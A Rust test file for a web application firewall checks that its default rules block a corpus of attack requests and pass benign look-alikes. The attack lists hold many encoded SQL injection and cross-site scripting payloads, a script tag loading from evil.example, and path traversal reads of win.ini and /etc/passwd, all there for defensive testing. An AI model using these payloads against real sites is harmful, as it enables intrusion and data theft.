//! The attack and benign corpora against the default rules. Requests are written as a
//! browser or a scanner sends them (query escaped where a URI needs it).

use super::*;
use crate::test_shared;
use edgeproxy::kit::Registry;

pub fn waf() -> Arc<Waf> {
    Arc::new(waf_fields())
}

/// A `waf` as `{}` builds it.
pub fn waf_fields() -> Waf {
    let Ok(rules) = Rules::compile(true, &[], vec![], false) else {
        panic!("default rules compile");
    };
    Waf {
        rules,
        headers: default_headers()
            .iter()
            .map(|h| http::HeaderName::try_from(h.as_str()).unwrap())
            .collect(),
        rounds: default_rounds(),
        status: default_status(),
        message: None,
        body_bytes: default_body_bytes(),
        body_limit_action: BodyLimitAction::Reject,
        detect_only: false,
    }
}

/// The hits of a form body, with the content type a browser sends.
fn body_hits(waf: &Waf, body: &str) -> Vec<Hit> {
    let mut req = RequestHeader::build("POST", b"/form", None).unwrap();
    req.insert_header("content-type", "application/x-www-form-urlencoded")
        .unwrap();
    waf.inspect_body(&req, body.as_bytes(), true, "corpus")
        .unwrap_or_else(|m| panic!("{body}: {m:?}"))
}

fn hits(waf: &Waf, target: &str, headers: &[(&str, &str)]) -> Vec<Hit> {
    let mut req = RequestHeader::build("GET", target.as_bytes(), None)
        .unwrap_or_else(|e| panic!("{target}: {e}"));
    for (k, v) in headers {
        req.append_header(k.to_string(), v.to_string()).unwrap();
    }
    waf.inspect(&req, "corpus")
}

/// `(request target, the rule expected to block it)`.
pub const ATTACKS: &[(&str, &str)] = &[
    // union select
    ("/s?q=1+union+select+1,2", "sqli-union-select"),
    (
        "/s?q=1%20UNION%20SELECT%20password%20FROM%20users",
        "sqli-union-select",
    ),
    ("/s?q=1/**/union/**/select/**/1", "sqli-union-select"),
    (
        "/s?q=1%2F%2A%2A%2Funion%2F%2A%2A%2Fselect",
        "sqli-union-select",
    ),
    ("/s?q=1%2520union%2520select%25201", "sqli-union-select"),
    (
        "/s?q=-1%252520UnIoN%252520SeLeCt%2525201",
        "sqli-union-select",
    ),
    ("/s?q=1%09union%0Aselect%0D1", "sqli-union-select"),
    ("/s?q=1+UNION+ALL+SELECT+null", "sqli-union-select"),
    ("/s?q=1)union(select(1))", "sqli-union-select"),
    ("/s?q=%2F*!50000union*%2F+select+1", "sqli-union-select"),
    ("/s?q=1union%23foo%0Aselect+1", "sqli-union-select"),
    ("/s?q=1+union+distinct+select+1", "sqli-union-select"),
    ("/s?union+select=1", "sqli-union-select"),
    ("/product/1%20union%20select%201", "sqli-union-select"),
    // or 1=1 and friends
    ("/s?q=1+or+1=1", "sqli-tautology-number"),
    ("/s?q=x%27+OR+%271%27=%271", "sqli-tautology-number"),
    ("/login?user=admin%27%20or%201=1--", "sqli-tautology-number"),
    ("/s?q=1)or(1=1", "sqli-tautology-number"),
    ("/s?q=1+%7C%7C+1=1", "sqli-tautology-number"),
    ("/s?q=1/**/or/**/1=1", "sqli-tautology-number"),
    ("/s?q=1%2520or%25201%253D1", "sqli-tautology-number"),
    ("/s?q=1%09OR%0A2%3E1", "sqli-tautology-number"),
    ("/s?q=1+and+1=2", "sqli-tautology-number"),
    ("/s?q=1+oR+1+like+1", "sqli-tautology-number"),
    ("/s?q=%22+or+%22%22%3D%22", "sqli-tautology-string"),
    ("/s?q=x%27+or+%27a%27=%27a", "sqli-tautology-string"),
    ("/s?q=%27+or+true--", "sqli-or-true"),
    ("/s?q=%27%20or%201--%20-", "sqli-or-true"),
    // <script
    ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss-script-tag"),
    ("/s?q=%3CScRiPt%3Ealert(1)", "xss-script-tag"),
    ("/s?q=%253Cscript%253E", "xss-script-tag"),
    (
        "/s?q=%3Cscript/src=//evil.example/x.js%3E",
        "xss-script-tag",
    ),
    ("/s?q=%26lt;script%26gt;", "xss-script-tag"),
    ("/s?q=%3Cscr%00ipt%3E", "xss-script-tag"),
    ("/s?q=%3C/script%3E%3Cscript%3E", "xss-script-tag"),
    ("/search/%3Cscript%3Ealert(1)", "xss-script-tag"),
    // javascript:
    ("/r?url=javascript:alert(1)", "xss-javascript-uri"),
    (
        "/r?url=JaVaScRiPt:alert(document.cookie)",
        "xss-javascript-uri",
    ),
    ("/r?url=java%09script:alert(1)", "xss-javascript-uri"),
    ("/r?url=java%0Ascript:alert(1)", "xss-javascript-uri"),
    ("/r?url=%26%23106;avascript:alert(1)", "xss-javascript-uri"),
    ("/r?url=javascript%26colon;alert(1)", "xss-javascript-uri"),
    ("/r?url=javascript%253Aalert(1)", "xss-javascript-uri"),
    ("/r?url=%20javascript://%250Aalert(1)", "xss-javascript-uri"),
    ("/r?url=vbscript:msgbox(1)", "xss-javascript-uri"),
    ("/r?url=javascript:window.location=1", "xss-javascript-uri"),
    // event handlers
    ("/s?q=%3Cimg+src=x+onerror=alert(1)%3E", "xss-event-handler"),
    ("/s?q=%3Csvg/onload=alert(1)%3E", "xss-event-handler"),
    ("/s?q=%3Cbody%20onload%3Dalert(1)%3E", "xss-event-handler"),
    // issue 19 item 11 (more in corpus/attacks.txt)
    ("/s?q=1+or+1+between+0+and+2", "sqli-like-between"),
    ("/s?q=admin%27+or+username+like+%27%25", "sqli-like-between"),
    ("/s?q=1%27+OR+0x1=0x1--", "sqli-tautology-number"),
    ("/s?q=1%a0union%a0select%a01", "sqli-union-select"),
    (
        "/s?q=%22+autofocus+onfocus=alert(1)+x=%22",
        "xss-attribute-injection",
    ),
    ("/r?url=java%26%23x09;script:alert(1)", "xss-javascript-uri"),
    ("/f?file=..%5c..%5cwindows%5cwin.ini", "path-traversal"),
    ("/f?file=/etc/./passwd", "path-system-file"),
    ("/s?id=1%27+OR&id=1=1", "sqli-tautology-number"),
];

/// `(header, value, the rule expected to block it)`.
pub const HEADER_ATTACKS: &[(&str, &str, &str)] = &[
    ("user-agent", "' or 1=1--", "sqli-tautology-number"),
    (
        "referer",
        "http://x.example/?q=%3Cscript%3E",
        "xss-script-tag",
    ),
    ("cookie", "session=1 union select 1", "sqli-union-select"),
];

/// Requests that must pass.
pub const BENIGN: &[&str] = &[
    "/s?q=select+your+size",
    "/s?q=rock+%27n%27+roll",
    "/s?q=rock+'n'+roll",
    "/s?q=rock%20'n'%20roll",
    "/s?q=this+or+that",
    "/s?q=this%20or%20that",
    "/s?q=black+or+white",
    "/s?q=union+station+select+seats",
    "/s?q=european+union+selection",
    "/s?q=%22the+best%22+or+%22the+worst%22",
    "/s?q=it%27s+a+1%3D1+match",
    "/s?q=size+10+or+12",
    "/s?q=2+or+3+items",
    "/s?q=1+or+2",
    "/s?q=between+1+and+2",
    "/s?q=salt+%26+pepper",
    "/s?q=AT%26T+phones",
    "/s?q=AT%26amp;T",
    "/s?q=c%2B%2B+books",
    "/s?q=JavaScript%3A+The+Good+Parts",
    "/s?q=javascript+tutorial",
    "/s?q=script+writing",
    "/s?q=%3C3+you",
    "/s?q=5+%3C+10",
    "/s?q=a+%3C+b+and+c+%3E+d",
    "/s?q=100%25+cotton",
    "/s?q=50%25+off+or+more",
    "/s?q=don%27t+or+won%27t",
    "/s?q=x%27s+or+y%27s",
    "/s?q=O%27Reilly+books",
    "/s?q=select",
    "/s?q=union",
    "/s?q=or",
    "/s?q=%231+bestseller",
    "/s?q=item+%235+--+new",
    "/s?q=1%2F2+price",
    "/s?q=%2F*+glob",
    "/s?q=rock+and+roll",
    "/s?q=and+1",
    "/s?q=email%40example.com",
    "/s?q=on+sale",
    "/s?q=onerror+onload+words",
    "/s?q=%E4%BD%A0%E5%A5%BD",
    "/s?q=size%3D10",
    "/s?q=ratio+1%3A1",
    "/s?q=%22select%22+or+%22union%22",
    "/s?q=drop+table+legs",
    "/r?redirect=https%3A%2F%2Fshop.example%2Fcart%3Fid%3D1",
    "/product/iPhone-15/reviews",
    "/search/union-square-select-fit-jeans",
    "/p?sort=price&order=asc&page=2&&x",
    "/p?a=1&b=2&c=1%3D1",
];

/// `(header, value)` pairs that must pass.
pub const BENIGN_HEADERS: &[(&str, &str)] = &[
    (
        "user-agent",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    ),
    ("referer", "https://shop.example/search?q=select+your+size"),
    ("cookie", "session=abc123; theme=dark; cart=1%2C2%2C3"),
    ("cookie", "prefs=%7B%22q%22%3A%22this+or+that%22%7D"),
];

#[test]
fn every_attack_is_blocked_by_its_rule() {
    let waf = waf();
    let mut missed = Vec::new();
    for (target, rule) in ATTACKS {
        let h = hits(&waf, target, &[]);
        if !h.iter().any(|h| h.rule == *rule && h.blocks) {
            missed.push(format!("{target} (expected {rule}, got {h:?})"));
        }
    }
    for (name, value, rule) in HEADER_ATTACKS {
        let h = hits(&waf, "/", &[(name, value)]);
        if !h
            .iter()
            .any(|h| h.rule == *rule && h.target == "headers" && h.name == *name)
        {
            missed.push(format!("{name}: {value} (expected {rule}, got {h:?})"));
        }
    }
    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
}

#[test]
fn every_benign_request_passes() {
    let waf = waf();
    let mut blocked = Vec::new();
    for target in BENIGN {
        let h = hits(&waf, target, &[]);
        if !h.is_empty() {
            blocked.push(format!("{target}: {h:?}"));
        }
    }
    for (name, value) in BENIGN_HEADERS {
        let h = hits(&waf, "/", &[(name, value)]);
        if !h.is_empty() {
            blocked.push(format!("{name}: {value}: {h:?}"));
        }
    }
    assert!(
        blocked.is_empty(),
        "false positives:\n{}",
        blocked.join("\n")
    );
}

#[test]
fn the_query_corpora_as_form_bodies() {
    let waf = waf();
    let query = |target: &'static str| target.split_once('?').map(|(_, q)| q);
    let mut wrong = Vec::new();
    for (target, rule) in ATTACKS {
        let Some(q) = query(target) else { continue };
        let h = body_hits(&waf, q);
        if !h.iter().any(|h| h.rule == *rule && h.target == "body") {
            wrong.push(format!("missed {q} (expected {rule}, got {h:?})"));
        }
    }
    for q in BENIGN.iter().filter_map(|t| query(t)) {
        let h = body_hits(&waf, q);
        if !h.is_empty() {
            wrong.push(format!("blocked {q}: {h:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_default_rule_is_exercised_by_the_attack_corpus() {
    for (id, _) in DEFAULT_RULES {
        assert!(ATTACKS.iter().any(|(_, r)| *r == id), "no attack for {id}");
    }
    // The corpora go through the registry's build path too.
    let mut r = Registry::new();
    r.register::<Waf>();
    assert!(r.build_str("waf", "{}", &test_shared()).is_ok());
}

/// The request targets of a corpus data file (`corpus/*.txt`: one a line, `#` comments).
pub fn corpus_lines(text: &'static str) -> impl Iterator<Item = &'static str> {
    text.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
}

/// Issue 19 item 11's classes (`corpus/attacks.txt`, `corpus/benign.txt`).
pub const GAP_ATTACKS: &str = include_str!("corpus/attacks.txt");
/// Look-alikes of the gap classes that must pass.
pub const GAP_BENIGN: &str = include_str!("corpus/benign.txt");

#[test]
fn the_gap_corpora_attacks_blocked_look_alikes_pass() {
    let waf = waf();
    let mut wrong = Vec::new();
    for target in corpus_lines(GAP_ATTACKS) {
        if !hits(&waf, target, &[]).iter().any(|h| h.blocks) {
            wrong.push(format!("missed {target}"));
        }
    }
    for target in corpus_lines(GAP_BENIGN) {
        let h = hits(&waf, target, &[]);
        if !h.is_empty() {
            wrong.push(format!("blocked {target}: {h:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
